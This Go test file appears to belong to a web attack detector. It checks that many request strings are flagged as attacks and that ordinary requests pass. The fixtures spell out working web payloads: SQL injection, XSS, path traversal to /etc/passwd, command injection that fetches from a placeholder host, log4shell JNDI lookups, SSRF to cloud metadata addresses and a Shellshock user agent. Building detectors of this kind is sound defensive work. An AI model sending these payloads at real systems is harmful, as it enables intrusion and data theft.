package webattack

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// classes are the verdicts of at least that score, as words.
func classes(e *Eye, r Request, score int) string {
	var words []string
	for _, v := range e.Inspect(r) {
		if v.Score >= score {
			words = append(words, v.Class.String()+" in "+string(v.Parameter))
		}
	}
	return strings.Join(words, ", ")
}

func TestInspectFindsAttacks(t *testing.T) {
	tests := []struct{ target, want string }{
		{"/a?id=1'%20OR%20'1'='1", "sqli in id"},
		{"/a?x=1&id=-1+union+select+1,2,password+from+users", "sqli in id"},
		{"/a?id=1%2527%2520and%2520sleep(5)%2523", "sqli in id"},
		{"/a?id=1/**/UnIoN/**/SeLeCt/**/1,2", "sqli in id"},
		{"/a?id=7;waitfor+delay+'0:0:5'--", "sqli in id"},
		{"/a?q=%u0027%20or%201=1--", "sqli in q"},
		{"/a?q=<script>alert(1)</script>", "xss in q"},
		{"/a?q=%22+onmouseover%3dalert(1)+x%3d%22", "xss in q"},
		{"/a?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B", "xss in q"},
		{"/a?q=javascript:alert(document.cookie)", "xss in q"},
		{"/%3Cscript%3Ealert(1)%3C/script%3E", "xss in url.path"},
		{"/a?%3Cscript%3Ealert(1)=1", "xss in <script>alert(1)"},
		{"/a?f=../../../etc/passwd", "traversal in f, sensitive_file in f"},
		{"/a/..%2f..%2f..%2f..%2fx", "traversal in url.path"},
		{"/a?f=..%c0%af..%c0%af..%c0%afx", "traversal in f"},
		{"/a?f=..%e0%80%af..%f0%80%80%af..%f8%80%80%80%afx", "traversal in f"},
		{"/a?f=%fc%80%80%80%80%ae%fc%80%80%80%80%ae/%c0%2e%c0%2e%c1%1c..%c0%2fx", "traversal in f"},
		{"/a?f=/x/../etc/./passwd", "traversal in f, sensitive_file in f"},
		{"/a?f=/app/WEB-INF./web.xml", "sensitive_file in f"},
		{"/a?h=1;id", "cmdi in h"},
		{"/a?h=%60whoami%60", "cmdi in h"},
		{"/a?h=x%26%26c%27a%27t+/etc/hosts", "cmdi in h, sensitive_file in h"},
		{"/a?h=$(curl+http://192.0.2.1/x)", "cmdi in h"},
		{"/a?f=php://filter/resource=x", "inclusion in f"},
		{"/a?user[$ne]=1&x=2", "sqli in user[$ne]"},
		{"/a?pass%5B%24regex%5D=.*", "sqli in pass[$regex]"},
		{"/a?u=http://2130706433/", "inclusion in u"},
		{"/a?u=http://0x7f000001/x", "inclusion in u"},
		{"/a?u=http://[::ffff:127.0.0.1]/", "inclusion in u"},
		{"/a?u=http://localhost:6379/", "inclusion in u"},
		{"/a?u=http://100.100.100.200/latest/meta-data/", "inclusion in u"},
		{"/a?x=%3C!DOCTYPE%20r%20[%3C!ENTITY%20e%20SYSTEM%20%22file:///x%22%3E]%3E", "xss in x, inclusion in x"},
		{"/a?c=phpinfo()", "code in c"},
		{"/a?c={{7*7}}", "ssti in c"},
		{"/a?c=$%7Bjndi:ldap://192.0.2.1/a%7D", "log4shell in c"},
		{"/a?id=1%27%2BHAVING%2B1=1--", "sqli in id"},
		{"/a?id=exec+sp_addlogin+x", "sqli in id"},
		{"/a?id=1+or+true--", "sqli in id"},
		{"/a?id=1+and+(select+1)=1", "sqli in id"},
		{"/a?id=x%22%22)+or+(%22%22a%22%22=%22%22a", "sqli in id"},
		{"/a?id=1%27]|//*|/a[%27a", "sqli in id"},
		{"/a?id=x)(|(uid=*)", "sqli in id"},
		{"/a?q=%3Cx%0Donzzz=1", "xss in q"},
		{"/a?q=%26%230000060", "xss in q"},
		{"/a?h=;id%5Cn", "cmdi in h"},
		{"/a?h=%2B%26%26%2B|%2Bdir+c:/", "cmdi in h"},
		{"/a?h=%25x(%27ls+-al%27)", "code in h"},
		{"/a?id=%E2%80%99+or+%E2%80%981%E2%80%99=%E2%80%991", "sqli in id"},
		{"/a?id=1%1%'%+%u%n%i%o%n%+%s%e%l%e%c%t%+%1%,%2", "sqli in id"},
		{"/a?id=MTIzJyBVTklPTiBBTEwgU0VMRUNUIHZlcnNpb24oKS0t", "sqli in id"},
		{"/a?id=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", "xss in id"},
		{"/a?id=1+uni/**/on+select+all", "sqli in id"},
		{"/a?id=9+limit+0,1--", "sqli in id"},
		{"/a?id=table_name+from+all_tab_columns", "sqli in id"},
		{"/a?id=1%27+not+like+%272", "sqli in id"},
		{"/a?id=12*3--", "sqli in id"},
		{"/a?id=345||1", "sqli in id"},
		{"/a?id=%27or+select+*", "sqli in id"},
		{"/a?id=%27;desc+users;--", "sqli in id"},
		{"/a?id=)+or+pg_sleep(t)", "sqli in id"},
		{"/a?id=0x77616974666f722064656c61792027303a303a313027", "sqli in id"},
		{"/a?id=0x730065006c006500630074002000400040007600650072007300690", "sqli in id"},
		{"/a?id=%27%7C%7Cdba.run(%27x%27)%7C%7C%27", "sqli in id"},
		{"/a?id=nion/*a*/select/*a*/1,2,3", "sqli in id"},
		{"/a?id=or+1/*", "sqli in id"},
		{"/a?id=%3C%3E%22%27%25%3B)(%26+", "sqli in id"},
		{"/a?id=9+len(1234)-len(123)", "sqli in id"},
		{"/a?id=p:*/=1--", "sqli in id"},
		{"/a?id=%3D+--+", "sqli in id"},
		{"/a?id=%22+or+%22%22+%22", "sqli in id"},
		{"/a?q=<a%20href=&#x6A&#x61vascript:f()>", "xss in q"},
		{"/a?q=x%22><a%20class=b", "xss in q"},
		{"/a?q=<b%20c=%22>%22%20onzzz=1", "xss in q"},
		{"/.env", "sensitive_file in url.path"},
	}
	e := New()
	for _, tt := range tests {
		if got := classes(e, Request{Target: []byte(tt.target)}, likely); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.target, got, tt.want)
		}
	}
}

func TestInspectLetsHonestRequestsPass(t *testing.T) {
	e := New()
	for _, target := range []string{
		"/", "", "/index.html?a=1&b=2", "/people/O%27Brien?name=O%27Brien", "/search?q=select+a+hotel+from+our+list",
		"/search?q=rock+%26+roll", "/search?q=1+%2B+1+%3D+2", "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "/a?d=2026-03-02T09:00:00%2B01:00",
		"/a?json=%7B%22id%22%3A1%2C%22name%22%3A%22x%22%7D", "/a?url=https%3A%2F%2Fexample.org%2Fpath%3Fa%3Db", "/a?path=C%3A%5CUsers%5Cbob%5CDocuments",
		"/a?filter%5Bprice%5D%5Blt%5D=100", "/a?email=a.b%2Bc%40example.org", "/a?q=%EC%95%88%EB%85%95+%ED%95%98%EC%84%B8%EC%9A%94", "/a?q=%ED%95%9C%EA%B5%AD%27s",
		"/a?range=1..5", "/a/b/../c", "/wiki/C%2B%2B", "/wiki/Foo_(bar)", "/a?fields=id%7Cname%7Cdate", "/a?b64=QUJD%2BDEF%2FGHI%3D%3D", "/a?q=drop+me+a+line",
		"/a?q=80%25+acrylic+and+20%25+wool", "/a?q=%22like%22+stamp", "/a?q=stocking+%22not%22+stuffer", "/a?q=select+x+from+y+where",
		"/a?ref=1611/IioXXIG1ti8rspL2vbXFy--", "/a?q=1950%27+and+60%27s+coats", "/a?q=<a+href=%22/teams/%22>teams</a>",
		"/a?q=%E2%80%98it%E2%80%99s+%E2%80%9Cquoted%E2%80%9D%E2%80%99", "/a?id=eyJuYW1lIjoiTydCcmllbiIsImFnZSI6NX0", "/a?q=50%25+of+60%25+of+70%25+of+80%25",
		"/a?age[$gt]=18", "/a?redirect_uri=http://localhost:3000/cb", "/a?u=http://192.168.1.10/", "/a?u=https://example.org:9200/", "/a?q=%C0+la+carte", "/a?q=voil%E0%20%80", "/a?f=a/./b", "/a?q=%3B-)", "/a?q=%3A')", "/a?q=--", "/a?slug=a--b--c-and-d-long-enough", "/a?id=0x1F", "/a?commit=0xdeadbeefdeadbeefdeadbeef", "/a?q=%22%22",
		"/a?q=5+or+6+people", "/a?q=%22exact+phrase%22", "/a?size=10%25", "/a?ids=1,2,3;4", "/a?lat=48.1&lon=-11.5",
	} {
		if got := classes(e, Request{Target: []byte(target)}, likely); got != "" {
			t.Errorf("%s: %s", target, got)
		}
	}
}

// long texts that programs send in a query.
func longHonest() map[string]string {
	row := `{"id":%d,"name":"O'Brien & sons","note":"order (2 or 3) from our select range; see http://example.org/a?b=c#d","on":true},`
	var rows strings.Builder
	for i := range 60 {
		fmt.Fprintf(&rows, row, i)
	}
	return map[string]string{
		"JSON":    rows.String(),
		"base64":  base64.StdEncoding.EncodeToString([]byte(rows.String()))[:6000],
		"prose":   strings.Repeat("Rock and roll, or jazz, on the road from Paris; it's open until nine (or ten). ", 80),
		"GraphQL": "query($id:ID!){" + strings.Repeat("author(id:$id){name,colour,orders(first:10){edges{node{...on Order{id}}}}} ", 80) + "}",
	}
}

func TestLongHonestTextsPass(t *testing.T) {
	e := New()
	for name, text := range longHonest() {
		if got := classes(e, Request{Target: []byte("/a?x=" + url.QueryEscape(text))}, likely); got != "" {
			t.Errorf("%s: %s", name, got)
		}
	}
}

func TestAttacksInLongTextsAreFound(t *testing.T) {
	e := New()
	for attack, want := range map[string]string{
		"1' union all select name,pass from users-- ": "sqli in x",
		"<svg onload=alert(1)>":                       "xss in x",
		"; cat /etc/passwd":                           "cmdi in x",
		"${jndi:ldap://192.0.2.1/a}":                  "log4shell in x",
		"{{7*7}}":                                     "ssti in x",
	} {
		for name, text := range longHonest() {
			for _, at := range []int{0, len(text) / 2, len(text)} {
				r := Request{Target: []byte("/a?x=" + url.QueryEscape(text[:at]+" "+attack+" "+text[at:]))}
				if len(r.Target) > maxInspected {
					continue
				}
				if got := classes(e, r, likely); !strings.Contains(got, want) {
					t.Errorf("%q at %d of %s: %s", attack, at, name, got)
				}
			}
		}
	}
}

// A text that is made to take long is an attack, whatever else it holds.
func TestCrowdedTextsAreAttacks(t *testing.T) {
	e := New()
	for _, text := range []string{"'", "<a ", " onx=", "();"} {
		r := Request{Target: []byte("/a?x=" + strings.Repeat(text, maxInspected/len(text)))}
		if got := classes(e, r, likely); got == "" {
			t.Errorf("%q many times: nothing", text)
		}
		if spent := maxWork - e.work; spent > maxWork {
			t.Errorf("%q many times: %d bytes of work", text, spent)
		}
	}
}

func TestShapesHaveFewWords(t *testing.T) {
	l := newLore()
	for _, list := range [][]shape{l.sql, l.markup, l.code, l.templates, {l.assigned, l.function}} {
		for i := range list {
			if n := len(list[i].words); n == 0 || n > maxWords {
				t.Errorf("%s: %d words", list[i].shape, n)
			}
		}
	}
}

func TestHeaders(t *testing.T) {
	e := New()
	tests := []struct {
		agent, referrer, want string
	}{
		{"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "https://example.org/?q=it%27s", ""},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "-", ""},
		{"sqlmap/1.8", "-", "scanner in user_agent.original"},
		{"() { :;}; /bin/id", "-", "cmdi in user_agent.original"},
		{"${jndi:dns://192.0.2.1}", "-", "log4shell in user_agent.original"},
		{"x", "${${env:NaN:-j}ndi:ldap://192.0.2.1/}", "log4shell in http.request.referrer"},
	}
	for _, tt := range tests {
		if got := classes(e, Request{Target: []byte("/"), UserAgent: []byte(tt.agent), Referrer: []byte(tt.referrer)}, likely); got != tt.want {
			t.Errorf("%s, %s: %q, want %q", tt.agent, tt.referrer, got, tt.want)
		}
	}
}

func TestCleanRequestsAllocateNothing(t *testing.T) {
	e := New()
	r := cleanRequest()
	if n := testing.AllocsPerRun(100, func() { e.Inspect(r) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func cleanRequest() Request {
	return Request{
		Target:    []byte("/catalog/shoes?colour=red&size=42&page=2"),
		Referrer:  []byte("https://www.example.org/catalog"),
		UserAgent: []byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
	}
}

func BenchmarkClean(b *testing.B) {
	e, r := New(), cleanRequest()
	b.ReportAllocs()
	for b.Loop() {
		if len(e.Inspect(r)) > 0 {
			b.Fatal("a verdict")
		}
	}
}

func BenchmarkAttack(b *testing.B) {
	e, r := New(), cleanRequest()
	r.Target = []byte("/item?id=-7%27+UNION+ALL+SELECT+name,pass+FROM+accounts--")
	b.ReportAllocs()
	for b.Loop() {
		e.Inspect(r)
	}
}

func BenchmarkHostile16KiB(b *testing.B) {
	e := New()
	for name, text := range map[string]string{
		"dots": "../", "quotes": "'", "words": "select ", "brackets": "${", "escapes": "%25", "pipes": "|a",
		"lines": "%0a", "comments": "/*", "tags": "<a ", "calls": "();", "entities": "%26%2365;", "handlers": " onx=", "selects": "select(",
	} {
		r := Request{Target: []byte("/a?x=" + strings.Repeat(text, maxInspected/len(text)))}
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				e.Inspect(r)
			}
		})
	}
}

func FuzzInspect(f *testing.F) {
	f.Add("/a?id=1%2527%20or%201=1", "https://example.org/", "Mozilla/5.0")
	f.Add("/..%c0%af?x=%u0027&y=%26lt%3b", "${jndi:x}", "() { :;};")
	f.Add("/a?x=;c'a't+/etc/passwd|id", "", "sqlmap")
	e, fresh := New(), New()
	f.Fuzz(func(t *testing.T, target, referrer, agent string) {
		r := Request{Target: []byte(target), Referrer: []byte(referrer), UserAgent: []byte(agent)}
		before := classes(e, r, 1)
		if again := classes(fresh, r, 1); again != before {
			t.Fatalf("an eye remembers: %q, then %q", before, again)
		}
		if string(r.Target) != target {
			t.Fatal("the request was changed")
		}
		if strings.Contains(target, "#") || before == "" {
			return
		}
		joint := "&"
		if !strings.Contains(target, "?") {
			joint = "?"
		}
		r.Target = []byte(target + joint + "benign=" + url.QueryEscape("a b"))
		if more := classes(e, r, 1); len(target) < maxInspected/2 && more != before {
			t.Fatalf("a benign parameter changes verdicts: %q, then %q", before, more)
		}
	})
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte("%2527+%u0041%c0%ae&lt;"))
	f.Fuzz(func(t *testing.T, text []byte) {
		var d decoder
		got := d.decode(text, true)
		if len(got) > len(text) {
			t.Errorf("%q grows to %q", text, got)
		}
		d.entities(got)
		if folded, ok := d.folded(got); ok {
			if again, ok := d.folded(append([]byte(nil), folded...)); ok && !bytes.Equal(again, folded) {
				t.Errorf("%q is folded to %q, and that to %q", got, folded, again)
			}
		}
	})
}
